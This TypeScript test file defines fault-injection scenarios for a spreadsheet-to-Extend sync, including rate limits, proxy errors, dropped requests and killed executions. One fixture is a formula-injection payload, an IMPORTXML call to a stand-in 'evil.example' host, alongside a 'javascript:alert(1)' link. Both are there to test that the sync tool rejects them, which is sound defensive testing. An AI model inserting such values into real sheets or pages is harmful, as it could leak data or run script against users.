// The fault matrix: each fault alone, then all of them mixed at random rates. A scenario says what the stand-in
// does wrong (fault rules), what the host does wrong (a fetchAll that throws, its answer to an open question),
// and what the user does meanwhile (executions killed, rows sorted between executions).
import { ECHO_API_KEY, ECHO_RUN_ID, type FaultRule } from "../../dev/stand-in/faults.js";
import type { RowIntent } from "./sheet.js";

/** Rate of faults for the scenarios of one fault alone: the harsher of the two mixed rates. */
export const ALONE_RATE = 0.2;

export interface ScenarioContext {
  intents: readonly RowIntent[];
}

export interface Scenario {
  id: string;
  /** The fault, as the report names it. */
  title: string;
  group: "alone" | "mixed";
  /** Share of update requests (or fetchAll calls, executions) that meet a fault; 0 for a fixed set of rows. */
  rate: number;
  /** Fault rules armed for the scenario's syncs (the 422 rows' rules are added by the runner). */
  faults(context: ScenarioContext): FaultRule[];
  /** 404 rows (no such run in Extend) and 422 rows (Extend refuses their values). */
  notFoundRows?: number;
  refusedRows?: number;
  /** Chance that a fetchAll call throws before sending anything, as a failing UrlFetchApp would. */
  fetchAllThrows?: number;
  /** Host answer to an open question: does one transport failure fail the whole fetchAll? Default yes. */
  fetchAllThrowsOnTransportError?: boolean;
  /** Chance per execution that it is killed at a random point of its budget. */
  killRate?: number;
  /** Chance, after each execution, that the user sorts the rows by a random column before the next one. */
  sortRate?: number;
  /** Seconds an execution works before it pauses (more executions: more kill and sort points). */
  executionBudgetSeconds?: number;
  /** Syncs that stop (401, 402) before the one that finishes: the user starts the sync again after each. */
  stops?: number;
  /** 200 answers that are not the run: the Run Status cell shows what the answer said. */
  answersMayLie?: boolean;
  /** The stand-in's own rate limit (requests per second); default off. */
  extendRate?: number;
}

/** Per-rule probability so that `rules` rules tried in turn fault about `rate` of the requests in all. */
export function perRule(rate: number, rules: number): number {
  return 1 - (1 - rate) ** (1 / rules);
}

const post = { method: "POST" };
const unlimited = "unlimited" as const;

const nginxPage = (status: number, title: string) =>
  `<html>\r\n<head><title>${status} ${title}</title></head>\r\n<body>\r\n<center><h1>${status} ${title}</h1></center>\r\n<hr><center>nginx</center>\r\n</body>\r\n</html>\r\n`;

/** Transient faults by name, each at probability p. */
const TRANSIENT: Record<string, (p: number) => FaultRule[]> = {
  "429 with Retry-After": (p) => [
    {
      kind: "status",
      status: 429,
      headers: { "Retry-After": "2" },
      message: "Rate limit exceeded for WRITE requests. Retry with backoff.",
      probability: p,
      times: unlimited,
      match: post,
    },
  ],
  "429 without Retry-After": (p) => [
    { kind: "status", status: 429, probability: p, times: unlimited, match: post },
  ],
  "408 from a proxy": (p) => [
    {
      kind: "custom",
      status: 408,
      contentType: "text/html",
      body: nginxPage(408, "Request Time-out"),
      probability: p,
      times: unlimited,
      match: post,
    },
  ],
  "500": (p) => [{ kind: "500-json", probability: p, times: unlimited, match: post }],
  "502 with an HTML page": (p) => [{ kind: "502-html", probability: p, times: unlimited, match: post }],
  "503": (p) => [{ kind: "503", probability: p, times: unlimited, match: post }],
  "504": (p) => [{ kind: "status", status: 504, probability: p, times: unlimited, match: post }],
  // Four in five slow answers take 4 s; the rest 61 s, past UrlFetchApp's 60-second timeout, after the update
  // was applied.
  "slow answers": (p) => [
    { kind: "delay", delayMs: 61_000, probability: p / 5, times: unlimited, match: post },
    { kind: "delay", delayMs: 4_000, probability: (p * 4) / 5, times: unlimited, match: post },
  ],
  "dropped before the update is applied": (p) => [
    { kind: "drop", probability: p, times: unlimited, match: post },
  ],
  "dropped after the update is applied": (p) => [
    { kind: "drop-after-apply", probability: p, times: unlimited, match: post },
  ],
  "malformed 200": (p) => [{ kind: "malformed", probability: p, times: unlimited, match: post }],
  "unexpected 200 bodies": (p) => {
    const q = perRule(p, 5);
    const rule = (body: string, apply: boolean, contentType = "application/json"): FaultRule => ({
      kind: "custom",
      status: 200,
      body,
      apply,
      contentType,
      probability: q,
      times: unlimited,
      match: post,
    });
    return [
      // A JSON that is not a workflow run, not applied.
      rule('{"object":"list","data":[]}', false),
      // A proxy's HTML page with 200, after the update was stored.
      rule("<html><body><h1>Welcome to nginx!</h1></body></html>", true, "text/html"),
      // An empty body, not applied.
      rule("", false),
      // The run, with a 60,000-character status: more than a cell holds.
      rule(
        `{"object":"workflow_run","id":"${ECHO_RUN_ID}","status":"${"S".repeat(60_000)}","dashboardUrl":"https://dashboard.extend.ai/workflows/${ECHO_RUN_ID}"}`,
        true,
      ),
      // The run, with a status that is a formula and a link that is not a web address.
      rule(
        `{"object":"workflow_run","id":"${ECHO_RUN_ID}","status":"=IMPORTXML(\\"https://evil.example\\",\\"//a\\")","dashboardUrl":"javascript:alert(1)"}`,
        true,
      ),
    ];
  },
};

const transientMix = (rate: number): FaultRule[] => {
  const kinds = Object.values(TRANSIENT);
  return kinds.flatMap((rules) => rules(perRule(rate, kinds.length)));
};

/** 401 and 402 in the middle of a sync: once each, on a row a third and two thirds of the way down. */
function stopRules(intents: readonly RowIntent[], which: ("401" | "402")[]): FaultRule[] {
  const updates = intents.filter((intent) => intent.kind === "update");
  return which.map((status, index) => {
    const at = updates[Math.floor((updates.length * (index + 1)) / (which.length + 1))];
    return status === "401"
      ? {
          kind: "status",
          status: 401,
          message: `Invalid API key ${ECHO_API_KEY}: the key was revoked.`,
          match: { runId: at?.runId ?? "" },
        }
      : {
          kind: "status",
          status: 402,
          code: "USAGE_BLOCKED",
          message: "Your organization is blocked for insufficient credits.",
          match: { runId: at?.runId ?? "" },
        };
  });
}

const alone = (title: string, id: string): Scenario => ({
  id,
  title,
  group: "alone",
  rate: ALONE_RATE,
  faults: () => TRANSIENT[title]?.(ALONE_RATE) ?? [],
  ...(title === "unexpected 200 bodies" ? { answersMayLie: true } : {}),
});

const mixed = (rate: number): Scenario => ({
  id: `mixed-${Math.round(rate * 100)}`,
  title: `everything mixed at ${Math.round(rate * 100)}%`,
  group: "mixed",
  rate,
  faults: ({ intents }) => [...stopRules(intents, ["401", "402"]), ...transientMix(rate)],
  notFoundRows: 10,
  refusedRows: 10,
  fetchAllThrows: rate,
  killRate: 0.5,
  sortRate: 0.5,
  executionBudgetSeconds: 60,
  stops: 2,
  answersMayLie: true,
});

export const SCENARIOS: readonly Scenario[] = [
  { id: "none", title: "no fault (control)", group: "alone", rate: 0, faults: () => [] },
  alone("429 with Retry-After", "429-ra"),
  alone("429 without Retry-After", "429"),
  {
    id: "429-extend",
    title: "429 from Extend's own limit (5/s, add-on at 10/s)",
    group: "alone",
    rate: 0,
    faults: () => [],
    extendRate: 5,
  },
  alone("408 from a proxy", "408"),
  alone("500", "500"),
  alone("502 with an HTML page", "502"),
  alone("503", "503"),
  alone("504", "504"),
  alone("slow answers", "slow"),
  alone("dropped before the update is applied", "drop"),
  {
    ...alone("dropped before the update is applied", "drop-kept"),
    title: "dropped before the update is applied, fetchAll keeping the other answers",
    faults: () => TRANSIENT["dropped before the update is applied"]?.(ALONE_RATE) ?? [],
    fetchAllThrowsOnTransportError: false,
  },
  alone("dropped after the update is applied", "drop-applied"),
  {
    id: "fetchall-throws",
    title: "a fetchAll that throws",
    group: "alone",
    rate: ALONE_RATE,
    faults: () => [],
    fetchAllThrows: ALONE_RATE,
  },
  alone("malformed 200", "malformed"),
  alone("unexpected 200 bodies", "unexpected-200"),
  {
    id: "404-422",
    title: "404 and 422 rows",
    group: "alone",
    rate: 0,
    faults: () => [],
    notFoundRows: 20,
    refusedRows: 20,
  },
  {
    id: "401",
    title: "401 in the middle of a sync",
    group: "alone",
    rate: 0,
    faults: ({ intents }) => stopRules(intents, ["401"]),
    stops: 1,
  },
  {
    id: "402",
    title: "402 in the middle of a sync",
    group: "alone",
    rate: 0,
    faults: ({ intents }) => stopRules(intents, ["402"]),
    stops: 1,
  },
  {
    id: "kills",
    title: "executions killed at random points",
    group: "alone",
    rate: 0.5,
    faults: () => [],
    killRate: 0.5,
    executionBudgetSeconds: 30,
  },
  {
    id: "sorts",
    title: "rows sorted between executions",
    group: "alone",
    rate: 1,
    faults: () => [],
    sortRate: 1,
    executionBudgetSeconds: 30,
  },
  mixed(0.05),
  mixed(0.2),
];
